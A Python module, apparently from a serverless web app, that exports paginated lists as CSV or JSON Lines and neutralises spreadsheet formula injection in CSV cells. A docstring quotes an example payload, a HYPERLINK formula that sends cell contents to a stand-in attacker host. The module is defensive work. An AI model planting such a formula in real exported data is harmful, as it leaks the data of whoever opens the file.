"""A list as a file, CSV or JSON Lines, in parts that say where the next one begins. May not know what is listed.

An answer of Lambda ends at 6 MB and ten seconds, so a part has so many rows at most. A program goes on by the header
`Link` (RFC 8288); a person sees by the file's name that it is not the whole of it.
"""

import csv
import json
import re
from collections.abc import Mapping, Sequence
from io import StringIO
from urllib.parse import urlencode

from chalicelib.domain.refusals import invalid
from chalicelib.web.page import Page
from chalicelib.web.request import Request

ROWS_OF_A_FILE = 250
TYPES = {"csv": "text/csv; charset=utf-8", "jsonl": "application/jsonl"}
# What a spreadsheet begins a formula with, the wide forms too, and what it may take off before it looks (OWASP, CSV
# Injection).
_BEGINS_FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r", "\n")
# Where else a cell can begin: a spreadsheet of a country that writes 1,5 parts columns at the semicolon, and knows no
# quotes but those at the beginning of a cell.
_BEGINS_ANOTHER = re.compile(rf""";(?=[\s"]*[{re.escape("".join(_BEGINS_FORMULA))}])""")

Row = Mapping[str, object]


def file_asked_for(request: Request) -> str:
    """What kind of file: `csv` or `jsonl`."""
    kind = request.query.get("format", "")
    if kind not in TYPES:
        raise invalid("format", "format")
    return kind


def as_file(
    kind: str,
    name: str,
    columns: Sequence[str],
    rows: Sequence[Row],
    path: str,
    fields: Mapping[str, str],
    further: str | None,
    *,
    by: str = "before",
) -> Page:
    """One part of a list; `further` is where the next one begins, asked for with the same fields and it as `by`."""
    headers = {
        "Content-Type": TYPES[kind],
        "Content-Disposition": f'attachment; filename="{name}{"-incomplete" if further else ""}.{kind}"',
    }
    if further:
        asked = {
            "format": kind,
            **{field: value for field, value in fields.items() if value},
            by: further,
        }
        headers["Link"] = f'<{path}?{urlencode(asked)}>; rel="next"'
    return Page(text=_csv(columns, rows) if kind == "csv" else _json_lines(rows), headers=headers)


def export_links(path: str, fields: Mapping[str, str], before: str = "") -> dict[str, str]:
    """The files of a list that is shown, from its beginning or from the first row of the page before this position."""
    asked = {name: value for name, value in {**fields, "before": before}.items() if value}
    return {f"{kind}_url": f"{path}?{urlencode({'format': kind, **asked})}" for kind in TYPES}


def _json_lines(rows: Sequence[Row]) -> str:
    """One object a line. In ASCII: some readers end a line at U+2028, which a stranger's browser may call itself."""
    return "".join(json.dumps(row) + "\n" for row in rows)


def _csv(columns: Sequence[str], rows: Sequence[Row]) -> str:
    """With a header row, quoted and ended as RFC 4180 has it."""
    text = StringIO(newline="")
    writer = csv.writer(text, lineterminator="\r\n")
    writer.writerow(columns)
    writer.writerows([_cell(row[name]) for name in columns] for row in rows)
    return text.getvalue()


def _cell(value: object) -> str:
    """A value as text; lists and objects as JSON.

    Attack: somebody logs on as `=HYPERLINK("https://evil.example?"&A1)`, or with a browser of that name, and the
    spreadsheet of whoever looks into it does that; or as `x;=HYPERLINK(...)`, for a German one. Defence: an apostrophe
    before it makes it text (TR-08).
    """
    if value is None:
        return ""
    text = value if isinstance(value, str) else json.dumps(value, ensure_ascii=False)
    text = _BEGINS_ANOTHER.sub(";'", text)
    return f"'{text}" if text.lstrip(" \xa0").startswith(_BEGINS_FORMULA) else text
